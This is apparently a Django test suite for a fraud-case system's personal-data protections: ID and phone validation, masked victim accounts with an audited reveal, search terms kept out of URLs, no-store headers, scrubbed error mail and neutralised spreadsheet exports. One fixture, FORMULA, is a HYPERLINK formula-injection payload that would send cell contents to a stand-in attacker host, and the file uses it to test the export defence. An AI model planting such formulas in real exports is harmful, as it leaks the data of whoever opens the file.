"""Personal data (PIPL art. 28): identity numbers checked, phones normalised, victims' own
account numbers masked everywhere but to an officer of the case who reveals one with a reason,
no search term in an address, no-store on every answer, exports that no spreadsheet reads as
formulas, and error mail without what was typed."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from datetime import date
from typing import Any

import pytest
from django.core import mail
from django.test import RequestFactory, override_settings
from django.urls import reverse
from django.utils import timezone
from django.views.debug import ExceptionReporter, SafeExceptionReporterFilter
from openpyxl import load_workbook

from funds.errors import RuleViolation
from funds.models import Case, Event, EventType, OutgoingMail, PeriodicReport, ReportKind, Victim
from funds.personal_data import PersonalDataError, normalise_id_number, normalise_phone
from funds.reports.export import report_csv, report_xlsx
from funds.reports.periodic import periodic_report_figures
from funds.services.cases import victim_add
from funds.services.mail import mail_deliver
from funds.services.notifications import institution_notify
from funds.spreadsheets import neutralise
from tests.funds.test_pages import (
    ID_MASKED,
    ID_NUMBER,
    PHONE,
    VICTIM,
    VICTIM_ACCOUNT,
    VICTIM_ACCOUNT_MASKED,
    PageTestCase,
    form_html,
    text,
)

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
BAD_CHECK_DIGIT = "370102199001071235"  # ID_NUMBER with its last digit mistyped
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


class IdentityNumberTest(PageTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.case = self.report()

    def add(self, **fields: str) -> Any:
        body = {"name": VICTIM, "id_number": ID_NUMBER, "phone": PHONE, "loss_amount": "100.00"}
        return self.api(self.officer_lx).post(
            f"/api/v1/cases/{self.case['id']}/victims/", {**body, **fields}, format="json"
        )

    def test_a_number_whose_check_digit_matches_is_kept_normalised(self):
        created = self.ok(self.add(id_number=" 3701 0219 9001 0712 34 "), 201)
        assert created["id_number"] == ID_MASKED
        assert Victim.objects.get(pk=created["id"]).id_number == ID_NUMBER

    def test_a_lower_case_x_check_digit_is_kept_upper_case(self):
        number = "11010519491231002X"
        self.ok(self.add(id_number=number.lower()), 201)
        assert Victim.objects.get().id_number == number

    def test_a_mistyped_digit_is_refused_beside_the_field_and_nothing_is_added(self):
        events = Event.objects.count()
        with self.settings(LANGUAGE_CODE="en"):
            refused = self.ok(self.add(id_number=BAD_CHECK_DIGIT), 400)
        assert refused == {
            "id_number": [
                "This identity number's check digit does not match: look for a mistyped digit."
            ]
        }
        assert not Victim.objects.exists()
        assert Event.objects.count() == events

    def test_a_fifteen_digit_number_an_impossible_birth_day_and_a_short_number_are_refused(self):
        for number in ("370102900101123", "370102199013071234", "3701021990010712"):
            assert set(self.ok(self.add(id_number=number), 400)) == {"id_number"}, number
        assert not Victim.objects.exists()

    def test_the_officers_form_refuses_a_wrong_check_digit_beside_the_field(self):
        response = self.as_user(self.officer_lx).post(
            f"/cases/{self.case['id']}/victims/",
            {
                "name": VICTIM,
                "id_number": BAD_CHECK_DIGIT,
                "phone": PHONE,
                "loss_amount": "100.00",
            },
            **EN,
        )
        assert response.status_code == 400
        html = form_html(text(response), f"/cases/{self.case['id']}/victims/")
        assert "check digit does not match" in html
        assert not Victim.objects.exists()

    def test_the_service_refuses_what_no_form_checked(self):
        case = Case.objects.get(pk=self.case["id"])
        for field, value in (("id_number", BAD_CHECK_DIGIT), ("phone", "12345")):
            given = {"id_number": ID_NUMBER, "phone": PHONE, field: value}
            with pytest.raises(RuleViolation) as refused:
                victim_add(actor=self.officer_lx, case=case, name=VICTIM, loss_amount=1, **given)
            assert refused.value.field == field
        assert not Victim.objects.exists()


class PhoneTest(PageTestCase):
    def test_mobiles_and_landlines_are_normalised_to_their_digits(self):
        cases = {
            "138 0013 8000": "13800138000",
            "+86 138-0013-8000": "13800138000",
            "0086 13800138000": "13800138000",
            "8613800138000": "13800138000",
            "１３８００１３８０００": "13800138000",
            "0531-88888888": "053188888888",
            "(0531) 8888 8888": "053188888888",
            "+86 531 8888 8888": "053188888888",
            "010-12345678": "01012345678",
        }
        assert {raw: normalise_phone(raw) for raw in cases} == cases

    def test_what_is_neither_a_mainland_mobile_nor_a_landline_is_refused(self):
        for raw in ("12345", "02112345", "+852 9123 4567", "5318888888", "1380013800x"):
            with pytest.raises(PersonalDataError):
                normalise_phone(raw)

    def test_the_api_stores_the_phone_normalised_and_answers_it_masked(self):
        case = self.report()
        created = self.post(
            self.officer_lx,
            f"/api/v1/cases/{case['id']}/victims/",
            {
                "name": VICTIM,
                "id_number": ID_NUMBER,
                "phone": "+86 138-0013-8000",
                "loss_amount": "100.00",
            },
            201,
        )
        assert created["phone"] == "138****8000"
        assert Victim.objects.get().phone == "13800138000"
        refused = self.ok(
            self.api(self.officer_lx).post(
                f"/api/v1/cases/{case['id']}/victims/",
                {"name": VICTIM, "id_number": ID_NUMBER, "phone": "12-34", "loss_amount": "1"},
                format="json",
            ),
            400,
        )
        assert set(refused) == {"phone"}

    def test_normalising_twice_changes_nothing(self):
        assert normalise_phone(normalise_phone("+86 531 8888 8888")) == "053188888888"
        assert normalise_id_number(normalise_id_number(ID_NUMBER.lower())) == ID_NUMBER


class RevealTest(PageTestCase):
    """A victim's own account number, in full only to an officer of the case who says why."""

    def setUp(self) -> None:
        super().setUp()
        self.case = self.filed_case()
        self.victim_ = self.victim(self.case["id"])
        self.reveal_url = f"/api/v1/cases/{self.case['id']}/victims/{self.victim_['id']}/reveal/"
        self.page_url = f"/cases/{self.case['id']}/victims/{self.victim_['id']}/reveal/"

    def reveals(self) -> list[Event]:
        return list(Event.objects.filter(type=EventType.VICTIM_ACCOUNT_REVEALED))

    def test_the_api_and_the_page_answer_the_number_masked_to_everyone(self):
        for user in (self.officer_lx, self.manager_jn, self.auditor_sd):
            listed = self.ok(self.api(user).get(f"/api/v1/cases/{self.case['id']}/victims/"))[
                "results"
            ]
            assert listed[0]["account"]["number"] == VICTIM_ACCOUNT_MASKED
            assert listed[0]["account_number"] == VICTIM_ACCOUNT_MASKED
            html = self.get(user, self.case_url(self.case["id"]))
            assert VICTIM_ACCOUNT_MASKED in html and VICTIM_ACCOUNT not in html
            events = self.api(user).get(f"/api/v1/cases/{self.case['id']}/events/")
            assert VICTIM_ACCOUNT not in events.content.decode()

    def test_a_transfer_from_the_victims_own_account_shows_it_masked(self):
        mule = self.add_account(self.case["id"], number="6222020000000009")
        self.post(
            self.officer_lx,
            f"/api/v1/cases/{self.case['id']}/transfers/",
            {
                "from_account": {
                    "institution": "CCB",
                    "number": VICTIM_ACCOUNT,
                    "holder_name": VICTIM,
                },
                "to_account": {
                    "institution": "ICBC",
                    "number": "6222020000000009",
                    "holder_name": "王某",
                },
                "amount": "5000.00",
                "occurred_at": timezone.now().isoformat(),
                "reference": "T-1",
            },
            201,
        )
        [transfer] = self.ok(
            self.api(self.officer_lx).get(f"/api/v1/cases/{self.case['id']}/transfers/")
        )["results"]
        assert transfer["from_account"]["number"] == VICTIM_ACCOUNT_MASKED
        assert transfer["to_account"]["number"] == mule["number"]  # a mule's stays in full
        html = self.get(self.officer_lx, self.case_url(self.case["id"]))
        assert VICTIM_ACCOUNT not in html and "6222020000000009" in html
        [event] = Event.objects.filter(type=EventType.TRANSFER_ADDED)
        assert event.data["from_account"] == VICTIM_ACCOUNT_MASKED
        assert event.data["to_account"] == "6222020000000009"

    def test_an_officer_of_the_case_reads_it_with_a_reason_which_the_trail_keeps(self):
        answer = self.post(self.officer_lx, self.reveal_url, {"reason": "核对返还账户"})
        assert answer == {
            "victim": self.victim_["id"],
            "account": {"institution": "CCB", "number": VICTIM_ACCOUNT, "holder_name": VICTIM},
        }
        [event] = self.reveals()
        assert (event.case_id, event.actor, event.data) == (
            self.case["id"],
            self.officer_lx,
            {"victim": self.victim_["id"], "reason": "核对返还账户"},
        )
        trail = self.api(self.officer_lx).get(f"/api/v1/cases/{self.case['id']}/events/")
        assert VICTIM_ACCOUNT not in trail.content.decode()
        # Reading it again is another act, recorded again.
        self.post(self.officer_lx, self.reveal_url, {"reason": "电话核实"})
        assert [e.data["reason"] for e in self.reveals()] == ["核对返还账户", "电话核实"]

    def test_without_a_reason_nothing_is_shown_or_recorded(self):
        for body in ({}, {"reason": ""}, {"reason": "   "}, {"reason": "x" * 501}):
            refused = self.ok(
                self.api(self.officer_lx).post(self.reveal_url, body, format="json"), 400
            )
            assert set(refused) == {"reason"}, body
            assert VICTIM_ACCOUNT not in json.dumps(refused)
        assert self.reveals() == []

    def test_another_units_officer_gets_404_and_other_roles_403(self):
        body = {"reason": "看看"}
        assert (
            self.api(self.officer_sn).post(self.reveal_url, body, format="json").status_code == 404
        )
        for user in (self.manager_lx, self.manager_jn, self.auditor_sd, self.liaison_ccb):
            response = self.api(user).post(self.reveal_url, body, format="json")
            assert response.status_code == 403, user
            assert VICTIM_ACCOUNT not in response.content.decode()
        assert self.reveals() == []

    def test_a_victim_of_another_case_or_none_is_404_and_one_without_an_account_409(self):
        other = self.report()
        elsewhere = self.victim(other["id"])
        body = {"reason": "核对"}
        for victim_id in (elsewhere["id"], elsewhere["id"] + 1000):
            url = f"/api/v1/cases/{self.case['id']}/victims/{victim_id}/reveal/"
            assert self.api(self.officer_lx).post(url, body, format="json").status_code == 404
        assert (
            self.api(self.officer_lx)
            .post(f"/api/v1/cases/{self.case['id']}/victims/abc/reveal/", body, format="json")
            .status_code
            == 404
        )
        bare = self.add_victim(self.case["id"], name="李四", with_account=False)
        refused = self.api(self.officer_lx).post(
            f"/api/v1/cases/{self.case['id']}/victims/{bare['id']}/reveal/", body, format="json"
        )
        assert refused.status_code == 409 and refused.json()["code"] == "invalid_state"
        assert self.reveals() == []

    def test_the_page_shows_the_number_in_its_answer_only_and_records_the_reason(self):
        html = self.get(self.officer_lx, self.case_url(self.case["id"]), **EN)
        assert f'action="{self.page_url}"' in html and "Show the full number" in html
        response = self.as_user(self.officer_lx).post(self.page_url, {"reason": "核对返还账户"})
        assert response.status_code == 200
        assert response["Cache-Control"] == "no-store"
        assert f'id="revealed-{self.victim_["id"]}">{VICTIM_ACCOUNT}<' in text(response)
        [event] = self.reveals()
        assert event.data == {"victim": self.victim_["id"], "reason": "核对返还账户"}
        # Not kept: the next view of the case is masked again.
        assert VICTIM_ACCOUNT not in self.get(self.officer_lx, self.case_url(self.case["id"]))

    def test_the_page_refuses_an_empty_reason_beside_the_field(self):
        response = self.as_user(self.officer_lx).post(self.page_url, {"reason": ""})
        assert response.status_code == 400
        block = form_html(text(response), self.page_url)
        assert "has-error" in block
        assert VICTIM_ACCOUNT not in text(response)
        assert self.reveals() == []

    def test_the_page_refuses_other_units_and_other_roles(self):
        html = self.get(self.manager_lx, self.case_url(self.case["id"]))
        assert self.page_url not in html
        assert self.as_user(self.officer_sn).post(self.page_url, {"reason": "x"}).status_code == 404
        for user in (self.manager_lx, self.auditor_sd, self.liaison_ccb):
            assert self.as_user(user).post(self.page_url, {"reason": "x"}).status_code == 403
        assert self.reveals() == []


class MailAndExportsTest(PageTestCase):
    def test_a_new_instructions_mail_names_the_account_by_its_last_four_only(self):
        self.liaison_icbc.email = "icbc@example.test"
        self.liaison_icbc.save(update_fields=["email"])
        case = self.report()
        account = self.add_account(case["id"], number="6222020000000001")
        stop = self.stop(case["id"], account["id"])
        institution_notify(instruction_id=stop["id"])
        [row] = OutgoingMail.objects.all()
        assert "************0001" in row.subject
        assert "6222020000000001" not in row.subject + row.body
        assert mail_deliver().sent == 1
        assert "6222020000000001" not in mail.outbox[0].subject

    def test_a_formula_looking_holder_name_downloads_as_text(self):
        case = self.filed_case()
        account = self.post(
            self.officer_lx,
            f"/api/v1/cases/{case['id']}/accounts/",
            {
                "institution": "ICBC",
                "number": "6222020000000002",
                "holder_name": FORMULA,
                "layer": 1,
            },
            201,
        )
        self.freeze(case["id"], account["id"])
        self.victim(case["id"])
        response = self.as_user(self.manager_lx).get(reverse("desk"), {"export": "approvals"}, **EN)
        sheet = load_workbook(io.BytesIO(response.content)).active
        headers = [c.value for c in sheet[2]]
        cell = sheet.cell(row=3, column=headers.index("Holder") + 1)
        assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")
        amount = sheet.cell(row=3, column=headers.index("Amount (yuan)") + 1)
        assert amount.value == 6000.0 and amount.data_type == "n"
        # The victim's own account is in no table of the desk.
        assert VICTIM_ACCOUNT not in json.dumps(
            [[c.value for c in row] for row in sheet.iter_rows()], ensure_ascii=False, default=str
        )

    def test_the_periodic_reports_csv_and_xlsx_neutralise_text_and_keep_numbers(self):
        self.lixia.name = "+1 历下"
        self.lixia.save(update_fields=["name"])
        today = timezone.localdate()
        report = PeriodicReport(
            unit=self.lixia,
            kind=ReportKind.DAILY,
            period_start=today,
            period_end=today,
            figures=periodic_report_figures(self.lixia, today, today),
            generated_at=timezone.now(),
        )
        rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
        names = [row[2] for row in rows[1:]]
        assert "'+1 历下" in names and "+1 历下" not in names
        book = load_workbook(io.BytesIO(report_xlsx(report)))
        sheet = book.active
        [own] = [row for row in sheet.iter_rows(min_row=2) if row[2].value == "'+1 历下"]
        assert own[2].data_type == "s"
        assert (own[3].value, own[3].data_type) == (0, "n")  # counts and amounts stay numbers
        assert (own[4].value, own[4].data_type) == (0, "n")
        assert book["说明"].cell(row=1, column=2).value == "'+1 历下"

    def test_only_text_that_a_spreadsheet_reads_as_a_formula_is_touched(self):
        for value in ("=1+1", "+86", "-2", "@SUM(A1)", "\tx", "\rx"):
            assert neutralise(value) == "'" + value
        for value in ("王某", "a=b", -5, -5.5, None, date(2026, 1, 1)):
            assert neutralise(value) == value


class SearchTest(PageTestCase):
    """A search term (a name, a phone, a card number) never travels in an address."""

    def setUp(self) -> None:
        super().setUp()
        self.a = self.report(title="甲案")
        self.victim(self.a["id"])
        self.b = self.report(title="乙案")

    def test_the_search_form_posts_and_the_result_address_holds_a_key_only(self):
        client = self.as_user(self.officer_lx)
        html = text(client.get(reverse("case-list")))
        form = re.search(r'<form[^>]*role="search"[^>]*>', html).group(0)
        assert 'method="post"' in form
        response = client.post(reverse("case-list"), {"q": VICTIM, "status": "reported"})
        assert response.status_code == 302
        location = response["Location"]
        assert VICTIM not in location and "q=" not in location
        assert re.fullmatch(r"/cases/\?status=reported&search=[\w-]+", location), location
        page = text(client.get(location))
        assert self.a["number"] in page and self.b["number"] not in page
        assert f'value="{VICTIM}"' in page  # the term stays in the box
        hrefs = re.findall(r'href="([^"]*)"', page)
        assert not [h for h in hrefs if "q=" in h or VICTIM in h]

    def test_the_pager_carries_the_key_and_not_the_term(self):
        for n in range(26):
            self.report(title=f"甲案 {n}")
        client = self.as_user(self.officer_lx)
        location = client.post(reverse("case-list"), {"q": "甲案"})["Location"]
        page = text(client.get(location))
        [next_link] = re.findall(r'<a href="([^"]*page=2)"', page)
        assert "search=" in next_link and "q=" not in next_link and "甲案" not in next_link

    def test_an_old_address_with_the_term_is_redirected_to_a_key(self):
        client = self.as_user(self.officer_lx)
        response = client.get(reverse("case-list"), {"q": VICTIM})
        assert response.status_code == 302 and "q=" not in response["Location"]
        assert self.a["number"] in text(client.get(response["Location"]))

    def test_a_key_from_another_session_shows_the_unsearched_list_and_says_so(self):
        location = self.as_user(self.officer_lx).post(reverse("case-list"), {"q": VICTIM})[
            "Location"
        ]
        self.client.logout()
        page = text(self.as_user(self.officer_lx).get(location, **EN))
        assert "That search is no longer kept" in page
        assert self.a["number"] in page and self.b["number"] in page

    def test_the_api_searches_by_post_and_refuses_a_term_in_the_address(self):
        found = self.ok(
            self.api(self.officer_lx).post("/api/v1/cases/search/", {"q": VICTIM}, format="json")
        )
        assert [c["number"] for c in found["results"]] == [self.a["number"]]
        refused = self.api(self.officer_lx).get("/api/v1/cases/", {"q": VICTIM})
        assert refused.status_code == 400 and set(refused.json()) == {"q"}
        assert set(
            self.ok(self.api(self.officer_lx).post("/api/v1/cases/search/", {}, format="json"), 400)
        ) == {"q"}
        assert (
            self.api(self.liaison_icbc)
            .post("/api/v1/cases/search/", {"q": VICTIM}, format="json")
            .status_code
            == 403
        )
        assert (
            self.ok(
                self.api(self.officer_sn).post(
                    "/api/v1/cases/search/", {"q": VICTIM}, format="json"
                )
            )["count"]
            == 0
        )


class NoStoreTest(PageTestCase):
    def test_pages_and_api_answers_are_never_stored(self):
        case = self.report()
        for path in (reverse("case-list"), self.case_url(case["id"]), reverse("notices")):
            response = self.as_user(self.officer_lx).get(path)
            assert response.status_code == 200
            assert "no-store" in response["Cache-Control"], path
        for path in ("/api/v1/cases/", f"/api/v1/cases/{case['id']}/victims/", "/api/v1/me/"):
            response = self.api(self.officer_lx).get(path)
            assert response.status_code == 200
            assert "no-store" in response["Cache-Control"], path
        for response in (self.client.get(reverse("login")), self.api().get("/api/v1/cases/")):
            assert "no-store" in response["Cache-Control"]


class ErrorMailTest(PageTestCase):
    """What Django mails administrators on a server error (the posted fields, and in its HTML
    form every frame's variables) shows none of a victim's data."""

    def posted_in_error_mail(self, response: Any) -> dict[str, Any]:
        request = response.wsgi_request
        return dict(SafeExceptionReporterFilter().get_post_parameters(request))

    @override_settings(DEBUG=False)
    def test_the_fields_posted_to_the_victim_and_search_forms_are_hidden(self):
        case = self.report()
        client = self.as_user(self.officer_lx)
        victim = {"name": VICTIM, "id_number": ID_NUMBER, "phone": PHONE, "loss_amount": "1"}
        for url, data in (
            (f"/cases/{case['id']}/victims/", victim),
            (reverse("case-list"), {"q": VICTIM}),
        ):
            posted = self.posted_in_error_mail(client.post(url, data))
            assert set(posted) == set(data), url
            assert not {k for k, v in posted.items() if v in data.values()}, (url, posted)

    @override_settings(DEBUG=False)
    def test_the_apis_victim_fields_are_hidden_however_they_are_posted(self):
        case = self.report()
        response = self.api(self.officer_lx).post(
            f"/api/v1/cases/{case['id']}/victims/",
            {"name": VICTIM, "id_number": ID_NUMBER, "phone": PHONE, "loss_amount": "1"},
        )
        assert response.status_code == 201
        posted = self.posted_in_error_mail(response)
        assert ID_NUMBER not in json.dumps(posted) and PHONE not in json.dumps(posted)

    @override_settings(DEBUG=False)
    def test_the_new_report_and_the_intake_hide_every_field_they_are_posted(self):
        from tests.funds.test_intake import INTAKE, body
        from tests.funds.test_pages import intake_form

        data = intake_form(title="t", fraud_type="romance", reported_at="2026-01-01T10:00")
        data.update({"victims-0-name": VICTIM, "victims-0-id_number": ID_NUMBER})
        posted = self.posted_in_error_mail(
            self.as_user(self.officer_lx).post(reverse("case-new"), data)
        )
        assert VICTIM not in json.dumps(posted) and ID_NUMBER not in json.dumps(posted)
        response = self.api(self.officer_lx).post(INTAKE, body(), format="json")
        assert response.status_code == 201
        posted = self.posted_in_error_mail(response)
        assert "370102199001011231" not in json.dumps(posted)

    @override_settings(DEBUG=False)
    def test_a_failure_inside_victim_add_shows_none_of_its_variables(self):
        case = Case.objects.get(pk=self.report()["id"])
        request = RequestFactory().get("/")
        try:
            victim_add(
                actor=self.officer_lx,
                case=case,
                name=VICTIM,
                id_number=ID_NUMBER,
                phone=PHONE,
                loss_amount=-1,  # refused by a rule after the personal data was read
                account_institution_code="CCB",
                account_number=VICTIM_ACCOUNT,
            )
        except RuleViolation:
            html = ExceptionReporter(request, *sys.exc_info(), is_email=True).get_traceback_html()
        else:  # pragma: no cover
            raise AssertionError("the loss was not refused")
        assert "victim_add" in html and "loss_amount" in html
        for secret in (ID_NUMBER, PHONE, VICTIM_ACCOUNT):
            assert secret not in html, secret
